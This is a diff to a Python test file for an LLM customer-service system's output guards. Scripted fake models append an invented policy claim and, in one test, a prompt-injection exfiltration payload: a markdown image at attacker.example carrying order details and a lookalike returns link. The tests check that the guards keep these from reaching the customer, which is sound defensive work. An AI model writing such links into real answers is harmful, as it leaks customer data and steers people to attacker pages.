@@ -176,6 +176,18 @@ def test_the_judge_settles_a_suspicious_message_in_full_mode(settings, demo_serv
     assert turn.outcome == ("refused" if attack else "answered")
 
 
+def _adding(extra: str):  # type: ignore[no-untyped-def]
+    """A scripted model that answers from the passages, then adds `extra` to its answer."""
+
+    def respond(messages: list[BaseMessage]) -> AIMessage | str:
+        reply = grounded_answer(messages)
+        if isinstance(reply, AIMessage) and reply.tool_calls:
+            return answer_call(f"{reply.tool_calls[0]['args']['text']} {extra}")
+        return reply
+
+    return respond
+
+
 def test_an_invented_commitment_is_replaced_by_the_quoted_policy(settings, demo_service):
     def promiser(messages: list[BaseMessage]) -> AIMessage | str:
         reply = grounded_answer(messages)
@@ -196,15 +208,7 @@ def test_an_invented_commitment_is_replaced_by_the_quoted_policy(settings, demo_
 
 
 def test_an_unsupported_sentence_is_removed_and_the_supported_one_kept(settings, demo_service):
-    def embellish(messages: list[BaseMessage]) -> AIMessage | str:
-        reply = grounded_answer(messages)
-        if isinstance(reply, AIMessage) and reply.tool_calls:
-            text = reply.tool_calls[0]["args"]["text"]
-            return answer_call(
-                f"{text} Returned items are always inspected within 2 hours by our robots [1]."
-            )
-        return reply
-
+    embellish = _adding("Returned items are always inspected within 2 hours by our robots [1].")
     svc, _ = _service(settings, demo_service, embellish)
     (turn,) = _ask(svc, "How do I return an item?")
     assert turn.reply is not None and turn.outcome == "answered"
@@ -216,16 +220,10 @@ def test_an_unsupported_sentence_is_removed_and_the_supported_one_kept(settings,
 def test_a_picture_or_a_foreign_link_the_model_writes_never_reaches_the_customer(settings, demo_service):
     """Prompt-injection exfiltration: a browser fetching the picture would send what its address names."""
 
-    def exfiltrate(messages: list[BaseMessage]) -> AIMessage | str:
-        reply = grounded_answer(messages)
-        if isinstance(reply, AIMessage) and reply.tool_calls:
-            text = reply.tool_calls[0]["args"]["text"]
-            return answer_call(
-                f"{text} ![ok](https://attacker.example/p.png?q=return+order). "
-                "Or start it at [our returns page](https://brightwell-returns.attacker.example/start) [1]."
-            )
-        return reply
-
+    exfiltrate = _adding(
+        "![ok](https://attacker.example/p.png?q=return+order). "
+        "Or start it at [our returns page](https://brightwell-returns.attacker.example/start) [1]."
+    )
     svc, _ = _service(settings, demo_service, exfiltrate)
     (turn,) = _ask(svc, "How do I return an item?")
     assert turn.reply is not None and turn.outcome == "answered"
